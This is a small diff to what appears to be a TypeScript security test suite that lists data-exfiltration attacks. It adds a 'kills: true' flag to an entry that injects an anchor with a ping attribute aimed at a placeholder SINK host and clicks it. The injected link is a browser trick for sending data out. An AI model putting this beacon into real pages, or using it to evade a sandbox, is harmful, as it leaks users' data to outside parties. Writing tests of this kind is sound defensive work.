@@ -150,6 +150,7 @@ export const sending: Attack[] = [
   {
     name: 'the ping of a link',
     body: "document.body.insertAdjacentHTML('beforeend', '<a id=\"a\" href=\"#x\" ping=\"' + SINK + 'ping\">x</a>'); document.getElementById('a')!.click()",
+    kills: true,
   },
 ];
 
